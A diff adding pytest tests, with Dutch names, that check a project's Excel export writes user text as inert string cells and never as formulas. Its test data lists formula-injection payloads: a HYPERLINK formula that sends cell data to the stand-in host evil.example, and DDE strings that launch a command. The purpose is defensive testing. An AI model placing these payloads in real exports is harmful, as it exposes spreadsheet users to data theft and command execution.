@@ -169,3 +169,130 @@ def test_xlsx_antwoord_is_a_download() -> None:
     assert response["Content-Type"] == excel.XLSX_MIME
     assert response["Content-Disposition"] == 'attachment; filename="stand.xlsx"'
     assert response.content[:2] == b"PK"
+
+
+# ---------------------------------------------------------------- exports are inert (issue 17)
+
+VIJANDIG = (
+    '=HYPERLINK("http://evil.example/?d="&A2,"klik")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+2",
+    "\r=1+2",
+    "  =1+2",
+    "#N/A",
+    "#DIV/0!",
+)
+
+
+def _opnieuw(wb: Any) -> Any:
+    from openpyxl import load_workbook
+
+    return load_workbook(io.BytesIO(excel.opslaan(wb)))
+
+
+def test_user_text_is_a_typed_string_cell_never_a_formula() -> None:
+    tabel = Tabel(
+        sleutel="Locaties",
+        titel=VIJANDIG[0],
+        bijschrift=VIJANDIG[1],
+        kolommen=(Kolom(VIJANDIG[2], "tekst"), Kolom("Plaatsen", som=True)),
+        rijen=tuple((t, 10) for t in VIJANDIG),
+        totaal=("Totaal", None),
+    )
+    ws = _boek(tabel)["Locaties"]
+    assert ws["A1"].value == VIJANDIG[2] and ws["A1"].data_type == "s"
+    cellen = {c.value: c for c in ws["A"][1 : len(VIJANDIG) + 1]}
+    assert set(cellen) == set(VIJANDIG)
+    for tekst_, c in cellen.items():
+        assert c.data_type == "s", (tekst_, c.data_type)
+    # Text a spreadsheet would read as a formula keeps its quote prefix when edited.
+    assert cellen[VIJANDIG[0]].quotePrefix and cellen["-2+3"].quotePrefix
+    assert not cellen["#N/A"].quotePrefix
+    # The product's own total stays a formula; the caption is text.
+    formules = [c for rij in ws.iter_rows() for c in rij if c.data_type == "f"]
+    assert [c.value for c in formules] == [f"=SUM(B2:B{len(VIJANDIG) + 1})"]
+    onderschrift = ws.cell(row=len(VIJANDIG) + 4, column=1)
+    assert onderschrift.value.startswith(VIJANDIG[0]) and onderschrift.data_type == "s"
+
+
+def test_numbers_stay_numbers() -> None:
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    excel.regel(ws, ("Tekort", -5, 2.5, dt.date(2025, 11, 1), True))
+    ws = _opnieuw(wb).active
+    assert [c.value for c in ws[1]] == ["Tekort", -5, 2.5, dt.datetime(2025, 11, 1), True]
+    assert [c.data_type for c in ws[1]][:3] == ["s", "n", "n"]
+
+
+def test_regel_appends_as_ws_append_also_after_an_empty_row() -> None:
+    from openpyxl import Workbook
+
+    ws = Workbook().active
+    assert excel.regel(ws, ("a",)) == 1
+    assert excel.regel(ws, ()) == 2
+    assert excel.regel(ws, ("=1+1", 3)) == 3
+    assert ws["A3"].data_type == "s" and ws["B3"].value == 3
+
+
+def test_a_formula_written_around_cel_is_made_text_when_the_workbook_is_saved() -> None:
+    """``opslaan`` is the one exit: a cell written directly (``ws.append``, ``ws[...] =``)
+    with text that openpyxl takes for a formula or an error leaves as text; a ``Formule``
+    written through ``cel`` stays a formula."""
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["=cmd|' /C calc'!A0", "#N/A", 4])
+    ws["A2"] = '=HYPERLINK("http://evil.example")'
+    excel.cel(ws, 3, 1, excel.Formule("=SUM(C1:C1)"))
+    excel.cel(ws, 4, 1, excel.Formule("=1+1"))
+    excel.cel(ws, 4, 1, "=2+2")  # text over a formula: text
+    assert excel.maak_inert(wb) == 3
+    ws = _opnieuw(wb).active
+    assert [(c.value, c.data_type) for c in (ws["A1"], ws["B1"], ws["A2"], ws["A4"])] == [
+        ("=cmd|' /C calc'!A0", "s"),
+        ("#N/A", "s"),
+        ('=HYPERLINK("http://evil.example")', "s"),
+        ("=2+2", "s"),
+    ]
+    assert (ws["A3"].value, ws["A3"].data_type) == ("=SUM(C1:C1)", "f")
+    with pytest.raises(ValueError, match="begint met '='"):
+        excel.Formule("SUM(A1)")
+
+
+def test_control_characters_and_overlong_text_do_not_break_the_workbook() -> None:
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    excel.cel(wb.active, 1, 1, "naam\x00met\x07besturing")
+    excel.cel(wb.active, 2, 1, "x" * 40_000)
+    ws = _opnieuw(wb).active
+    assert ws["A1"].value == "naam\ufffdmet\ufffdbesturing"
+    assert len(ws["A2"].value) == excel.MAX_TEKST
+
+
+def test_only_core_xlsx_creates_workbooks_and_only_core_csvexport_writes_csv() -> None:
+    """The one safe path: no other module of the product builds a workbook (the readers of
+    uploads only open one) or writes CSV."""
+    import re
+    from pathlib import Path
+
+    import regietafel
+
+    wortel = Path(regietafel.__file__).parent
+    gevonden = []
+    for pad in wortel.rglob("*.py"):
+        naam = pad.relative_to(wortel).as_posix()
+        tekst = pad.read_text(encoding="utf-8")
+        for onderdeel in re.findall(r"from openpyxl import ([\w, ]+)|import openpyxl\b", tekst):
+            namen = {n.strip() for n in onderdeel.split(",")} if onderdeel else {"openpyxl"}
+            if naam != "core/xlsx.py" and namen - {"load_workbook"}:
+                gevonden.append(f"{naam}: {sorted(namen)}")
+        if re.search(r"csv\.writer|csv\.DictWriter", tekst) and naam != "core/csvexport.py":
+            gevonden.append(f"{naam}: csv.writer")
+    assert gevonden == []
